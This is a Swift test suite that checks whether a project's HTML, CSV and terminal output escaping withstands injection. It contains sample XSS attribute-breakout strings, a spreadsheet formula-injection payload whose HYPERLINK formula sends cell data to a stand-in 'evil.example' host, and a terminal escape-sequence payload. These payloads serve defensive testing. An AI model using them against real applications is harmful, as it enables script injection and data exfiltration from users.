import Foundation
import PortalLinks
import Testing

/// Every output is escaped for the context it lands in, checked against what reads it there.
@Suite struct OutputEscapingTests {
    /// Scalars that join the scalar before them into one `Character` (Extend, SpacingMark, ZWJ) or the one after
    /// (Prepend), from Unicode's GraphemeBreakProperty.txt (Debian's unicode-data).
    static let joiningScalars: [Unicode.Scalar] = {
        guard let text = try? String(contentsOfFile: "/usr/share/unicode/auxiliary/GraphemeBreakProperty.txt", encoding: .utf8)
        else { return [] }
        return text.split(separator: "\n").flatMap { line -> [Unicode.Scalar] in
            let fields = line.prefix(while: { $0 != "#" }).split(separator: ";").map { $0.trimmingCharacters(in: .whitespaces) }
            guard fields.count == 2, ["Extend", "SpacingMark", "Prepend", "ZWJ"].contains(fields[1]) else { return [] }
            let bounds = fields[0].split(separator: ".").filter { !$0.isEmpty }.compactMap { UInt32($0, radix: 16) }
            guard let low = bounds.first, let high = bounds.last else { return [] }
            return (low...high).compactMap(Unicode.Scalar.init)
        }
    }()

    /// The review's strings and their neighbours for every joining scalar: a quote followed by the mark, the mark
    /// before "<", before "&", in an anchor's text and an iframe's title. Python's html.parser must find exactly
    /// the one element, with the name as its text or title and nothing else.
    @Test func htmlHoldsEveryJoiningScalarAsText() throws {
        #expect(Self.joiningScalars.count > 2_000, "install unicode-data (make test does)")
        let url = "https://portal.example.com/join?token=AZ3x&a=\"b\""
        var cases: [[String]] = []
        for scalar in Self.joiningScalars + ["\u{301}", "\u{600}"] {
            for name in ["The x\"\(scalar) onload=alert(1) y portal", "\(scalar)<svg onload=alert(1)>", "x'\(scalar) onmouseover='a", "\(scalar)&lt;b"] {
                cases.append(["a", HTMLText.anchor(url: url, portal: name), url, "Join " + name])
                cases.append(["iframe", HTMLText.iframe(url: url, title: name), url, name])
            }
        }
        let failures = try Self.python(Self.htmlCheck, input: try JSONSerialization.data(withJSONObject: cases))
        #expect(failures.isEmpty, "\(failures.prefix(2_000))")
    }

    static let htmlCheck = #"""
        import json, sys
        from html.parser import HTMLParser
        class Collect(HTMLParser):
            def __init__(self):
                super().__init__(convert_charrefs=True)
                self.events = []
            def handle_starttag(self, tag, attrs): self.events.append(("start", tag, attrs))
            def handle_endtag(self, tag): self.events.append(("end", tag))
            def handle_data(self, data): self.events.append(("data", data))
        for kind, html, url, text in json.load(sys.stdin):
            parser = Collect(); parser.feed(html); parser.close()
            events = parser.events
            if kind == "a":
                want = [("start", "a", [("href", url)]), ("data", text), ("end", "a")]
                ok = events == want
            else:
                attrs = dict(events[0][2]) if events and events[0][0] == "start" else {}
                ok = (len(events) == 2 and events[0][1] == "iframe" and events[1] == ("end", "iframe")
                      and attrs.get("src") == url and attrs.get("title") == text and len(events[0][2]) == 6)
            if not ok:
                print(repr(html), events)
        """#

    /// OWASP's CSV injection: a cell a spreadsheet would run is written with an apostrophe in front, quoted, and
    /// reads back as that text; other cells are untouched.
    @Test func csvNeutralisesEveryFormulaStart() throws {
        let starts = ["=", "+", "-", "@", "\t", "\r", "\u{FF1D}", "\u{FF0B}", "\u{FF0D}", "\u{FF20}"]
        for start in starts {
            for prefix in ["", " ", "  \n"] where !(start == "\t" || start == "\r") || prefix.isEmpty {
                let field = prefix + start + "HYPERLINK(\"https://evil.example/?\"&F2,\"Open\")"
                let written = CSV.escape(field)
                #expect(written.hasPrefix("\"'"), "\(written.debugDescription)")
                #expect(try CSV.parse("a," + written + ",b").first?.fields == ["a", "'" + field, "b"])
            }
        }
        for field in ["acme", "Acme Corp", "2026-12-05", "x=1", "a-b", "user@example.com", "\u{301}=x"] {
            #expect(CSV.escape(field) == field)
        }
    }

    /// Every scalar Unicode classes as a control, a line or paragraph separator or a bidirectional control is
    /// escaped for a terminal; everything else prints as it is.
    @Test func terminalFieldsEscapeEveryControlAndBidiScalar() {
        var escaped = 0
        for value in UInt32(0)...0x10FFFF {
            guard let scalar = Unicode.Scalar(value) else { continue }
            let text = "a\(scalar)b"
            let shown = TerminalText.field(text)
            let dangerous = [.control, .lineSeparator, .paragraphSeparator].contains(scalar.properties.generalCategory)
                || scalar.properties.isBidiControl
            if scalar == "\\" {
                #expect(shown == "a\\\\b")
                escaped += 1
            } else if dangerous {
                #expect(!shown.unicodeScalars.contains(scalar), "U+\(String(value, radix: 16))")
                #expect(shown.unicodeScalars.allSatisfy { $0.value >= 0x20 && $0.value < 0x7F || $0 == "a" || $0 == "b" })
                escaped += 1
            } else {
                #expect(shown == text)
            }
        }
        #expect(escaped == 65 + 2 + 12 + 1)  // Cc, Zl and Zp, Bidi_Control, the backslash
        #expect(TerminalText.field("\u{1B}]0;pwned\u{7}\u{1B}[8m") == "\\u{1B}]0;pwned\\u{7}\\u{1B}[8m")
    }

    static func python(_ script: String, input: Data) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script]
        let stdin = Pipe(), stdout = Pipe()
        process.standardInput = stdin
        process.standardOutput = stdout
        try process.run()
        stdin.fileHandleForWriting.write(input)
        try stdin.fileHandleForWriting.close()
        let output = stdout.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        guard process.terminationStatus == 0 else { return "python3 exited with \(process.terminationStatus)" }
        return String(decoding: output, as: UTF8.self)
    }
}
